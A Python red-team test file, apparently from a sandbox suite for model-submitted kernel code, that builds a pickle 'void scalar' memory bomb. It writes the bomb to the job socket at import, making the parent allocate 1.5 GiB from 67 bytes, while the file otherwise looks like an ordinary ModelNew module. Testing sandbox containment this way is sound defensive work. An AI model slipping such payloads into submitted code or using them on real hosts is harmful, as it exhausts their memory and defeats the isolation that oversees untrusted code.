"""Attack: make the parent allocate far more memory than the result cap from a 67-byte message,
through a class that is still resolvable after sandbox_s6 ``pickle_bomb`` (which removed
``builtins.bytearray`` from ``RESULT_CLASSES``).

``RESULT_CLASSES`` still resolves ``numpy.dtype`` and ``numpy._core.multiarray.scalar``. The pickle
``scalar(dtype("V<N>"))`` -- no data argument -- makes numpy allocate and zero an N-byte void
scalar (numpy's ``array_scalar``: a missing ``obj`` means "zero-filled"). This external
candidate writes that message (as a ``JobResult``'s value) on the job socket at import, with
N = 1.5 GiB, above ``MAX_MESSAGE_BYTES`` (1 GiB). A list of k such scalars (the dtype memoised
once, ~10 bytes each) multiplies it: 100 of them ask for 150 GiB from about 1 KB.

Success (GOT THROUGH): the parent's peak RSS (printed by run_attack.py) grows by ~1.5 GiB above
the ~380 MiB of a run without it, from one message. Contained: the message is refused before
the allocation (fault ``tampering``), the RSS stays at the baseline.
"""
import os
import struct
import sys

import torch

N = 3 << 29  # 1.5 GiB
spec = f"V{N}".encode()
msg = (b"\x80\x02ckernelsynth.workers\nJobResult\nckernelsynth.contract\nFault\nX\x02\x00\x00\x00ok\x85R"
       b"cnumpy._core.multiarray\nscalar\ncnumpy\ndtype\nX" + len(spec).to_bytes(4, "little") + spec +
       b"\x85R\x85R\x86R.")
os.write(int(sys.argv[1]), struct.pack("!i", len(msg)) + msg)
print(f"np_void_bomb: sent {len(msg)} bytes asking for {N} bytes", flush=True)


class ModelNew(torch.nn.Module):
    def __init__(self, **kw):
        super().__init__()

    def forward(self, x):
        return x.flip(1)
